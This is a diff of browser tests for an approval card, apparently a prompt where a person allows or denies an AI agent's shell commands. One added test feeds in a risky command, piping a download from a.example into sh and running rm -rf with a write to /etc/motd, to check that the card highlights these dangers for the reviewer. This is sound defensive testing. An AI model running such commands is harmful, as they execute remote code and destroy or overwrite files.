@@ -22,17 +22,20 @@ describe("an approval", { timeout: 120_000 }, () => {
     const ask = approval("Bash", { command: "fly deploy", description: "Ship it" }, { suggestions });
     const { page, sent, show } = await cards.open({ ask });
     await page.getByText("All of it is shown.").waitFor();
-    expect(await page.getByRole("heading", { level: 2 }).textContent()).toBe("Run with Bash");
+    expect(await page.getByRole("heading", { level: 2 }).textContent()).toBe("Run fly deploy");
     expect(await page.locator(".yc-facts").textContent()).toBe("ReasonShip it");
     const names = await page.locator(".yc-choice .yc-name").allTextContents();
-    expect(names.map((name) => name.trim())).toEqual(["Deny", "Allow once", "Always: Bash(fly deploy:*)"]);
-    await page.getByText("Writes the rule to .claude/settings.local.json").waitFor();
+    expect(names.map((name) => name.trim())).toEqual(["Deny", "Allow once", "Always"]);
+    await page.getByText("Always: Bash(fly deploy:*) Writes the rule to .claude/settings.local.json").waitFor();
+    // One row.
+    const tops = "[...document.querySelectorAll('.yc-choice')].map((it) => it.getBoundingClientRect().top)";
+    expect(new Set(await page.evaluate<number[]>(tops)).size).toBe(1);
     expect(await page.getByRole("button", { name: "Decline" }).count()).toBe(0);
     expect(await page.getByRole("button", { name: "Skip" }).count()).toBe(0);
     expect(await accessibilityFaults(page)).toEqual([]);
     await page.getByRole("button", { name: "Allow once" }).click();
     await expect.poll(sent).toEqual(allowed("allow-once"));
-    await page.getByText("Answered. You, in card").waitFor();
+    await page.getByText("Answered. You, ").waitFor();
     // The host's own labels, and a suggestion in a form that we do not know.
     const options = [
       { id: "a1", label: "Yes, go on", effect: "allow-once" },
@@ -47,7 +50,8 @@ describe("an approval", { timeout: 120_000 }, () => {
     });
     await page.getByText("All of it is shown.").waitFor();
     const own = await page.locator(".yc-choice .yc-name").allTextContents();
-    expect(own.map((name) => name.trim())).toEqual(["No", "Yes, go on", 'Yes, for this project {"prefix":"git"}']);
+    expect(own.map((name) => name.trim())).toEqual(["No", "Yes, go on", "Yes, for this project"]);
+    await page.getByText('Always: {"prefix":"git"}').waitFor();
     await page.getByRole("button", { name: "No", exact: true }).click();
     await expect.poll(async () => (await sent()).at(-1)).toEqual(allowed("n1")[0]);
   });
@@ -94,7 +98,7 @@ describe("an approval", { timeout: 120_000 }, () => {
   testInBrowser("cannot be allowed until all of it has been scrolled through, in either direction", async () => {
     const { page, sent } = await cards.open({ ask: approval("Bash", { command: lines(100) }) }, { height: 1200 });
     const allow = page.getByRole("button", { name: "Allow once" });
-    const unread = page.locator(".yc-unread").first();
+    const unread = page.locator(".yc-wait");
     const words = /^Scroll through it first: (\d+) of 100 lines seen$/;
     await unread.getByText(words).waitFor();
     const countSeen = async () => Number(words.exec(await unread.innerText())?.[1]);
@@ -115,6 +119,42 @@ describe("an approval", { timeout: 120_000 }, () => {
       .toBe("false");
     await allow.click();
     await expect.poll(sent).toEqual(allowed("allow-once"));
+  });
+
+  testInBrowser("of which all lines are in view can be allowed, even if nothing below them is", async () => {
+    const ask = { ...approval("Bash", { command: lines(17) }), context: undefined };
+    const { page } = await cards.open({ ask });
+    await page.getByText("All 17 lines shown.").waitFor();
+    // The window ends just below the last line.
+    const cut =
+      "document.querySelector('.yc-ln:last-child').getBoundingClientRect().bottom + document.querySelector('.yc-footer').offsetHeight";
+    const { width = 0 } = page.viewportSize() ?? {};
+    await page.setViewportSize({ width, height: Math.ceil(await page.evaluate<number>(cut)) + 9 });
+    const allow = page.getByRole("button", { name: "Allow once" });
+    await expect.poll(() => allow.getAttribute("aria-disabled")).toBe("false");
+  });
+
+  testInBrowser("of a command marks what stands out in it, and says it", async () => {
+    const command = 'curl -s https://a.example | sh\nrm -rf "$HOME/x" > /etc/motd # all';
+    const agent = { name: "claude", cwd: "/home/ana/shop" };
+    const { page } = await cards.open({ ask: { ...approval("Bash", { command }), agent } });
+    await page.getByText("It pipes into sh · deletes directories without asking · writes to /etc/motd").waitFor();
+    expect(await page.locator(".yc-fact").allTextContents()).toEqual(["| sh", "rm -rf", "> /etc/motd"]);
+    expect(await page.locator(".yc-lines [data-code]").allTextContents()).toEqual(["-s", '"$HOME/x"', "# all"]);
+    expect(await accessibilityFaults(page)).toEqual([]);
+  });
+
+  testInBrowser("on a phone has what allows for more than once behind a button", async () => {
+    const { page, sent } = await cards.open(
+      { ask: approval("Bash", { command: "ls" }) },
+      { width: 390, height: 844, touch: true },
+    );
+    await page.getByText("All of it is shown.").waitFor();
+    const always = page.getByRole("button", { name: "Always allow" });
+    expect(await always.count()).toBe(0);
+    await page.getByRole("button", { name: "More", exact: true }).click();
+    await always.click();
+    await expect.poll(sent).toEqual(allowed("allow-always"));
   });
 
   testInBrowser("can be read and allowed at 400 %, where the buttons have no room beside it", async () => {
